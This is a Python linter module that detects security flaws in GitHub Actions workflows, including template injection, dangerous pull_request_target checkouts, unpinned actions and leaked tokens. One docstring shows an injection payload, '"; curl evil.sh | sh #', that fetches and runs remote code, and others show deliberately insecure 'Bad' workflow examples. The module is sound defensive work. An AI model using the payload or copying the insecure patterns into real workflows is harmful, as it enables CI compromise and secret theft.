"""Security checks (zizmor's ground): injection, dangerous triggers, pinning, credentials, permissions."""

from __future__ import annotations

import re

from ....core.findings import Severity
from ....core.secrets import LOCAL_TEST_CREDENTIALS, URL_CREDENTIALS, hardcoded_secret
from ...yaml import Mapping, Scalar
from .. import schema
from ..expressions import Index, Property, property_path, walk_expr
from ._base import ActionsRule
from .artifacts import checkout_folder, uploads_checkout

_UNTRUSTED = [p.split(".") for p in schema.UNTRUSTED_INPUTS]
# triggers that run with the base repository's secrets and a write token on a fork's data
PRIVILEGED_TRIGGERS = ("pull_request_target", "workflow_run")


def privileged_trigger(wf) -> str | None:
    """The first privileged trigger the workflow runs on, if any."""
    events = wf.events()
    return next((e for e in PRIVILEGED_TRIGGERS if e in events), None)


def untrusted(path: list[str]) -> bool:
    for pattern in _UNTRUSTED:
        # A "*" in the path (a computed index) matches only a "*" of the pattern: github[x] is not
        # github.head_ref as far as we can tell.
        if len(pattern) == len(path) and all(p == "*" or p == q for p, q in zip(pattern, path)):
            return True
    return False


def first_untrusted(site):
    """The first property or index of the site's expression that reads untrusted input, or None."""
    if site.ast is None:
        return None
    for node in walk_expr(site.ast):
        if isinstance(node, (Property, Index)):
            path = property_path(node)
            if path and untrusted(path):
                return node
    return None


def _action(step) -> tuple[str, str] | None:
    """(owner/repo[/path] lower-cased, ref) of a step's remote ``uses``."""
    uses = step.get("uses")
    if not isinstance(uses, Scalar) or "@" not in uses.value or uses.value.startswith(("./", "$/", "docker://")):
        return None
    name, _, ref = uses.value.partition("@")
    return name.lower(), ref


class TemplateInjection(ActionsRule):
    """Attacker-controlled text expanded into a script: a code injection.

    ``${{ }}`` is substituted into the ``run:`` script (or a ``github-script`` script) before the
    shell sees it, so an issue title such as ``"; curl evil.sh | sh #`` runs as code with the job's
    token and secrets. Pass the value through an environment variable and quote it instead.

    Bad:

        - run: echo "${{ github.event.issue.title }}"

    Good:

        - run: echo "$TITLE"
          env:
            TITLE: ${{ github.event.issue.title }}
    """

    code = "GA030"
    name = "template-injection"
    message = "Untrusted input expanded into a script"
    severity = Severity.ERROR
    tags = ("security",)
    aliases = ("zizmor:template-injection", "actionlint:expression")

    workflow_only = False  # composite actions (action.yml) run scripts too

    def check_workflow(self, wf, ctx):
        steps = [s for job in wf.jobs for s in job.steps]
        if wf.kind == "action":
            runs = wf.root.get("runs")
            seq = runs.get("steps") if isinstance(runs, Mapping) else None
            steps = [_Step(n) for n in getattr(seq, "items", []) if isinstance(n, Mapping)]
        scripts = {id(s.get("run")) for s in steps if isinstance(s.get("run"), Scalar)}
        for step in steps:
            action = _action(step)
            with_ = step.get("with")
            if action and action[0] == "actions/github-script" and isinstance(with_, Mapping):
                script = with_.get("script")
                if isinstance(script, Scalar):
                    scripts.add(id(script))
        for site in wf.expressions:
            node = first_untrusted(site) if id(site.scalar) in scripts else None
            if node is not None:
                text = site.embedded.inner[node.start : node.end]
                yield self.finding(
                    site.range(node.start, node.end),
                    f'"{text}" is controlled by whoever opens the issue or pull request; pass it through env: instead of expanding it into the script',
                )


class _Step:
    """A composite action's step, with the little of the Step interface the rules use."""

    def __init__(self, node: Mapping) -> None:
        self.node = node

    def get(self, key: str):
        return self.node.get(key)


_HEAD_REFS = re.compile(
    r"github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|github\.event\.workflow_run\.head_(?:sha|branch)"
    r"|refs/pull/\$\{\{\s*github\.event\.(?:number|pull_request\.number)\s*\}\}/(?:merge|head)",
)


class DangerousCheckout(ActionsRule):
    """A ``pull_request_target`` or ``workflow_run`` workflow that checks out the pull request's code.

    These triggers run with the base repository's secrets and a write token, even for pull requests
    from forks. Checking out the PR head and then building or testing it runs the attacker's code
    with those privileges ("pwn request").

    Bad:

        on: pull_request_target
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@v4
                with:
                  ref: ${{ github.event.pull_request.head.sha }}
              - run: make test

    Good:

        on: pull_request
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@v4
              - run: make test
    """

    code = "GA031"
    name = "dangerous-checkout"
    message = "Privileged trigger checks out untrusted pull request code"
    severity = Severity.ERROR
    tags = ("security",)
    aliases = ("zizmor:dangerous-triggers",)

    def check_workflow(self, wf, ctx):
        trigger = privileged_trigger(wf)
        if trigger is None:
            return
        for job in wf.jobs:
            for step in job.steps:
                action = _action(step)
                with_ = step.get("with")
                if not action or action[0] != "actions/checkout" or not isinstance(with_, Mapping):
                    continue
                ref = with_.get("ref")
                if isinstance(ref, Scalar) and _HEAD_REFS.search(ref.value):
                    token = "secrets and a write token" if _may_write(wf, job) else "secrets"
                    yield self.finding(
                        ref.range,
                        f'"{trigger}" runs with {token}; checking out the pull request head here runs untrusted code with them',
                    )


def _may_write(wf, job) -> bool:
    """Whether the job's token may have a write scope: the message says "write token" only then
    (``permissions: read-all`` leaves the secrets, not the write token)."""
    node = job.get("permissions") if job.get("permissions") is not None else wf.root.get("permissions")
    if isinstance(node, Scalar):
        return node.is_null or node.value.strip() == "write-all"
    if isinstance(node, Mapping):
        return any(isinstance(v, Scalar) and v.value.strip() == "write" for _, v in node.items())
    return True  # no block (the default may grant write) or a value we cannot read


_SHA = re.compile(r"^[0-9a-f]{40}$")
_TRUSTED_OWNERS = ("actions", "github")


class UnpinnedUses(ActionsRule):
    """A third-party action or reusable workflow referenced by a tag or branch, not a commit SHA.

    Tags and branches can be moved by the action's owner (or whoever compromises it, as with
    tj-actions/changed-files in 2025) to run other code in your workflow. A full 40-character commit
    SHA cannot. Actions of GitHub itself (``actions/*``, ``github/*``) are not reported.

    Bad:

        - uses: docker/build-push-action@v6

    Good:

        - uses: docker/build-push-action@263435318d21b8e681c14492fe198d362a7d2c83  # v6
    """

    code = "GA032"
    name = "unpinned-uses"
    message = "Action not pinned to a commit SHA"
    severity = Severity.INFORMATION
    tags = ("security", "supply-chain")
    aliases = ("zizmor:unpinned-uses",)

    def check_workflow(self, wf, ctx):
        nodes = [s.get("uses") for job in wf.jobs for s in job.steps] + [job.get("uses") for job in wf.jobs]
        for uses in nodes:
            if not isinstance(uses, Scalar) or "${{" in uses.value or uses.value.startswith(("./", "$/", "docker://")):
                continue
            name, at, ref = uses.value.partition("@")
            if not at or not ref or name.split("/", 1)[0].lower() in _TRUSTED_OWNERS or _SHA.match(ref):
                continue
            start = uses.value.index("@") + 1
            rng = _sub_range(wf, uses, start, len(uses.value))
            yield self.finding(rng, f'"{name}" is pinned to "{ref}", which its owner can move; pin a full commit SHA')


def _sub_range(wf, scalar: Scalar, start: int, end: int):
    return wf.value_range(scalar, start, end)


class PersistedCredentials(ActionsRule):
    """``actions/checkout`` without ``persist-credentials: false`` ("artipacked").

    checkout stores the job's token in ``.git/config``. Any later step, and any artifact that
    uploads the workspace, can read it. Set ``persist-credentials: false`` unless a later step
    pushes with git. Reported as a warning when a later ``actions/upload-artifact`` step uploads
    the checkout's ``.git`` with it (a path such as ``.`` that covers the checkout, and hidden files
    included: ``include-hidden-files: true``, or upload-artifact before v4.4.0). An explicit
    ``persist-credentials: true`` (a job that pushes) is reported only in that case: keeping the
    token is then deliberate, uploading it is not.

    Bad:

        - uses: actions/checkout@v4

    Good:

        - uses: actions/checkout@v4
          with:
            persist-credentials: false
    """

    code = "GA033"
    name = "persisted-credentials"
    message = "actions/checkout persists the token in .git/config"
    severity = Severity.INFORMATION
    tags = ("security",)
    aliases = ("zizmor:artipacked",)

    def check_workflow(self, wf, ctx):
        for job in wf.jobs:
            steps = list(job.steps)
            for index, step in enumerate(steps):
                action = _action(step)
                if not action or action[0] != "actions/checkout":
                    continue
                with_ = step.get("with")
                persist = with_.get("persist-credentials") if isinstance(with_, Mapping) else None
                if isinstance(persist, Scalar) and (persist.value.strip().lower() == "false" or "${{" in persist.value):
                    continue
                leaks = _uploaded_later(steps[index + 1 :], checkout_folder(with_))
                if isinstance(persist, Scalar) and persist.value.strip().lower() == "true" and not leaks:
                    continue  # deliberate: the job pushes with git (ruff sync_typeshed.yaml)
                where = persist if persist is not None else step.get("uses")
                severity = Severity.WARNING if leaks else None
                yield self.finding(
                    where.range,
                    "actions/checkout leaves the token in .git/config; set persist-credentials: false",
                    severity=severity,
                )


def _uploaded_later(steps, folder: str | None) -> bool:
    """A later upload-artifact step carries the checkout's .git (and so the token)."""
    if folder is None:
        return False
    for step in steps:
        action = _action(step)
        if action and action[0] == "actions/upload-artifact" and uploads_checkout(step, action[1], folder):
            return True
    return False


def _hardcoded(name: str, value: str) -> str | None:
    """Why ``name: value`` is a hard-coded credential (the engine's shared secret detector)."""
    if "${{" in value:
        return None
    return hardcoded_secret(name, value)


def _secret_part(value: str) -> str:
    """The password of ``scheme://user:password@host``, else the value itself."""
    match = URL_CREDENTIALS.search(value)
    return match.group("secret") if match else value.strip()


def _service_values(job) -> set[str]:
    """Every literal the job's service containers get in their ``env:``."""
    services = job.get("services")
    out: set[str] = set()
    for _, service in services.items() if isinstance(services, Mapping) else ():
        env = service.get("env") if isinstance(service, Mapping) else None
        if isinstance(env, Mapping):
            out.update(v.value.strip() for _, v in env.items() if isinstance(v, Scalar) and isinstance(v.value, str))
    return out


def _credential_places(wf):
    """(env or with mapping, whether it belongs to a throwaway service, the literals the job's
    services get) for every place a credential can be written."""
    root_env = wf.root.get("env")
    every_service: set[str] = set()
    for job in wf.jobs:
        local = _service_values(job)
        every_service |= local
        services = job.get("services")
        for _, service in services.items() if isinstance(services, Mapping) else ():
            yield (service.get("env") if isinstance(service, Mapping) else None), True, local
        yield job.get("env"), False, local
        yield job.get("with"), False, local
        for step in job.steps:
            yield step.get("env"), False, local
            yield step.get("with"), False, local
    yield root_env, False, every_service


class HardcodedCredentials(ActionsRule):
    """A password or token written in the workflow instead of read from ``secrets``.

    Everyone who can read the repository (everyone, for a public one) can read it, and it stays in
    the git history. Reported for container/service ``credentials.password`` and for ``env:`` /
    ``with:`` entries named like a password or token whose value looks like one. The credentials of
    throwaway service containers (a test database's password, MinIO's default ``minioadmin``) and
    the values that reach them are information only: they guard nothing outside the job.

    Bad:

        container:
          image: ghcr.io/acme/build:1
          credentials:
            username: acme
            password: hunter2hunter2

    Good:

        container:
          image: ghcr.io/acme/build:1
          credentials:
            username: acme
            password: ${{ secrets.GHCR_PASSWORD }}
    """

    code = "GA034"
    name = "hardcoded-credentials"
    message = "Hard-coded credential"
    severity = Severity.ERROR
    tags = ("security", "secrets")
    aliases = ("zizmor:hardcoded-container-credentials", "actionlint:credentials")

    def check_workflow(self, wf, ctx):
        for job in wf.jobs:
            containers = [job.get("container")]
            services = job.get("services")
            if isinstance(services, Mapping):
                containers += [v for _, v in services.items()]
            for container in containers:
                creds = container.get("credentials") if isinstance(container, Mapping) else None
                password = creds.get("password") if isinstance(creds, Mapping) else None
                if isinstance(password, Scalar) and not password.is_null and "${{" not in password.value:
                    if password.value.strip() in LOCAL_TEST_CREDENTIALS:
                        yield self.finding(
                            password.range,
                            "container password is a well-known local test default; fine for tests, never reuse it",
                            severity=Severity.INFORMATION,
                        )
                    else:
                        yield self.finding(
                            password.range,
                            "container registry password is written in the workflow; use ${{ secrets.NAME }}",
                        )
        for env_like, in_service, service_values in _credential_places(wf):
            if not isinstance(env_like, Mapping):
                continue
            for key, value in env_like.items():
                if isinstance(key, Scalar) and isinstance(value, Scalar) and value.type == "str":
                    yield from self._entry(key, value, in_service, service_values)

    def _entry(self, key: Scalar, value: Scalar, in_service: bool, service_values: set[str]):
        kind = _hardcoded(key.value, value.value)
        if not kind:
            return
        if self._local_test_credential(kind, value.value, in_service, service_values):
            yield self.finding(
                value.range,
                f'"{key.value}" holds a credential of a throwaway service container ({kind}); fine for tests, never reuse it',
                severity=Severity.INFORMATION,
            )
        else:
            yield self.finding(
                value.range,
                f'"{key.value}" holds a credential ({kind}) written in the workflow; use ${{{{ secrets.NAME }}}}',
            )

    @staticmethod
    def _local_test_credential(kind: str, value: str, in_service: bool, service_values: set[str]) -> bool:
        """A credential of a throwaway service: a service's own password, the same password where the
        job reaches the service (a URL), or a well-known default. A token of a known issuer
        (ghp_..., AKIA...) is real wherever it is written, and a URL only counts by its password."""
        if kind not in ("secret value", "credentials in URL"):
            return False
        secret = _secret_part(value)
        own = in_service and kind == "secret value"
        return own or secret in LOCAL_TEST_CREDENTIALS or secret in service_values


def _env_and_with(wf):
    root = wf.root
    out = [root.get("env")]
    for job in wf.jobs:
        out += [job.get("env"), job.get("with")]
        for step in job.steps:
            out += [step.get("env"), step.get("with")]
    return [m for m in out if isinstance(m, Mapping)]


class ExcessivePermissions(ActionsRule):
    """``permissions: write-all`` gives the token write access to everything in the repository.

    A compromised step (a dependency, an injected script) can then push code, publish releases and
    rewrite issues. Grant each scope the job needs, nothing more.

    Bad:

        permissions: write-all

    Good:

        permissions:
          contents: read
          pull-requests: write
    """

    code = "GA035"
    name = "excessive-permissions"
    message = "Token has write access to everything"
    severity = Severity.WARNING
    tags = ("security",)
    aliases = ("zizmor:excessive-permissions",)

    def check_workflow(self, wf, ctx):
        nodes = [wf.root.get("permissions")] + [job.get("permissions") for job in wf.jobs]
        for node in nodes:
            if isinstance(node, Scalar) and node.value == "write-all":
                yield self.finding(
                    node.range,
                    "permissions: write-all grants write access to every scope; list the scopes the job needs",
                )


class DefaultPermissions(ActionsRule):
    """A job that runs with the repository's default token permissions (no ``permissions:`` block
    for the workflow or the job).

    The default can be write access to contents, packages, issues and more, depending on the
    repository or organisation setting. Declare what the workflow needs (``permissions: {}`` or
    ``contents: read`` at the top is a good start). A workflow run only through ``workflow_call``
    is not reported: its token has the calling job's permissions, and that job is reported instead.

    Bad:

        on: push
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - run: make test

    Good:

        on: push
        permissions:
          contents: read
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - run: make test
    """

    code = "GA036"
    name = "default-permissions"
    message = "Job runs with the default token permissions"
    severity = Severity.INFORMATION
    tags = ("security",)
    aliases = ("zizmor:excessive-permissions",)

    def check_workflow(self, wf, ctx):
        if "permissions" in wf.root or _reusable_only(wf):
            return
        for job in wf.jobs:
            if job.node is not None and "permissions" not in job.node:
                yield self.finding(
                    job.key.range, f'job "{job.id}" runs with the default token permissions; add a permissions: block'
                )


def _reusable_only(wf) -> bool:
    """Triggered only by ``workflow_call``: the token's permissions are the calling job's, and the
    caller is where a missing ``permissions:`` block is reported."""
    return set(wf.events()) == {"workflow_call"}


_CACHE_ACTIONS = ("actions/cache", "actions/cache/restore")
_SETUP_WITH_CACHE = (
    "actions/setup-node",
    "actions/setup-python",
    "actions/setup-go",
    "actions/setup-java",
    "actions/setup-dotnet",
)
# setup actions that cache unless ``cache: false``, from this major version on (setup-go v4)
_CACHE_BY_DEFAULT = {"actions/setup-go": 4}
_PULL_REQUEST_TRIGGERS = ("pull_request", "pull_request_target")


def _publishing_trigger(wf) -> str | None:
    """``release``, or ``push`` limited to tags: every run of the workflow builds what gets published
    (whatever other events it also runs on)."""
    events = wf.events()
    if "release" in events:
        return "release"
    push = events.get("push")
    if push is not None and isinstance(push[1], Mapping):
        config = push[1]
        if "tags" in config and not any(k in config for k in ("branches", "branches-ignore", "paths", "paths-ignore")):
            return "push of tags"
    return None


def _publishing_jobs(wf):
    """(job, why) for each job the cache of which can reach what is published."""
    trigger = _publishing_trigger(wf)
    if trigger is not None:
        return [(job, f"in a workflow run by {trigger}") for job in wf.jobs]
    pull_request = next((e for e in _PULL_REQUEST_TRIGGERS if e in wf.events()), None)
    if pull_request is None:
        return []
    from ..publishing import publisher
    from .scripts_shell import run_scripts

    scripts = {id(run.scalar): run for run in run_scripts(wf)}
    jobs = [(job, publisher(job, scripts)) for job in wf.jobs]
    return [
        (job, f"in a job that publishes ({what}) in a workflow also run on {pull_request}")
        for job, what in jobs
        if what
    ]


def _restored_caches(step):
    """(node, what) for each cache a step restores: a cache action (its ``uses``), the ``cache:`` input
    of a setup action, or a setup action that caches by default (its ``uses``)."""
    action = _action(step)
    if action is None:
        return
    name, ref = action
    with_ = step.get("with")
    setting = with_.get("cache") if isinstance(with_, Mapping) else None
    if name in _CACHE_ACTIONS:
        lookup = with_.get("lookup-only") if isinstance(with_, Mapping) else None
        if not (isinstance(lookup, Scalar) and lookup.value.strip().lower() != "false"):  # lookup-only restores nothing
            yield step.get("uses"), "a cache restored"
    elif name in _SETUP_WITH_CACHE and isinstance(setting, Scalar):
        if setting.value.strip() and setting.value.strip().lower() != "false" and "${{" not in setting.value:
            yield setting, "a cache restored"
    elif name in _CACHE_BY_DEFAULT and setting is None and _major(ref, _CACHE_BY_DEFAULT[name]):
        yield step.get("uses"), f"the cache {name} restores by default (cache: false turns it off)"


def _major(ref: str, at_least: int) -> bool:
    """Whether ``ref`` is that major version or later; a commit SHA or branch counts as a recent one."""
    match = re.match(r"v?(\d+)(?:\.|$)", ref)
    return match is None or int(match.group(1)) >= at_least


class CachePoisoning(ActionsRule):
    """A release or deployment that restores a cache.

    Caches are shared with every workflow of the repository, including ones that run code from pull
    requests. An attacker who can write a cache entry (through a compromised test job, for
    instance) then gets their files into the artifact you publish. Build releases without caches.
    Reported in workflows run by ``release`` or by tag pushes, and in jobs that publish (a release,
    a package, an image, a site) in workflows that also run on pull requests. ``actions/setup-go``
    (v4 and later) caches unless ``cache: false``.

    Bad:

        on:
          release:
            types: [published]
        jobs:
          publish:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/setup-node@v4
                with:
                  cache: npm
              - run: npm publish

    Good:

        on:
          release:
            types: [published]
        jobs:
          publish:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/setup-node@v4
              - run: npm publish
    """

    code = "GA037"
    name = "cache-poisoning"
    message = "Release or deployment restores a cache"
    severity = Severity.WARNING
    tags = ("security", "supply-chain")
    aliases = ("zizmor:cache-poisoning",)

    def check_workflow(self, wf, ctx):
        for job, why in _publishing_jobs(wf):
            for step in job.steps:
                for node, what in _restored_caches(step):
                    yield self.finding(node.range, f"{what} {why} can be poisoned; build releases without caches")


class SecretsAsAWhole(ActionsRule):
    """``toJSON(secrets)`` (or ``secrets`` itself) hands every secret of the repository to one
    step, when it needs one or two. Any compromise of that step leaks them all.

    Bad:

        - run: ./deploy.sh
          env:
            ALL: ${{ toJSON(secrets) }}

    Good:

        - run: ./deploy.sh
          env:
            TOKEN: ${{ secrets.DEPLOY_TOKEN }}
    """

    code = "GA038"
    name = "secrets-as-a-whole"
    message = "All secrets exposed at once"
    severity = Severity.WARNING
    tags = ("security", "secrets")
    aliases = ("zizmor:overprovisioned-secrets",)

    def check_workflow(self, wf, ctx):
        from ..expressions import Variable

        for site in wf.expressions:
            if site.ast is None:
                continue
            parents = {id(c) for n in walk_expr(site.ast) if isinstance(n, (Property, Index)) for c in [n.obj]}
            for node in walk_expr(site.ast):
                if isinstance(node, Variable) and node.name.lower() == "secrets" and id(node) not in parents:
                    yield self.finding(
                        site.range(node.start, node.end),
                        "the whole secrets context is exposed here; pass only the secrets this step needs",
                    )


class InsecureCommands(ActionsRule):
    """``ACTIONS_ALLOW_UNSECURE_COMMANDS: true`` turns the disabled ``::set-env`` and ``::add-path``
    workflow commands back on: any text a step prints (a log line, a test name from a pull request)
    can then set environment variables such as ``LD_PRELOAD`` for the following steps.

    Bad:

        env:
          ACTIONS_ALLOW_UNSECURE_COMMANDS: true

    Good:

        - run: echo "/opt/tool/bin" >> "$GITHUB_PATH"
    """

    code = "GA039"
    name = "insecure-commands"
    message = "Insecure workflow commands enabled"
    severity = Severity.ERROR
    tags = ("security",)
    aliases = ("zizmor:insecure-commands",)

    def check_workflow(self, wf, ctx):
        for env in _env_and_with(wf):
            for key, value in env.items():
                if (
                    isinstance(key, Scalar)
                    and key.value == "ACTIONS_ALLOW_UNSECURE_COMMANDS"
                    and isinstance(value, Scalar)
                    and value.value.strip().lower() == "true"
                ):
                    yield self.finding(
                        value.range,
                        "ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables ::set-env and ::add-path; write to $GITHUB_ENV / $GITHUB_PATH instead",
                    )
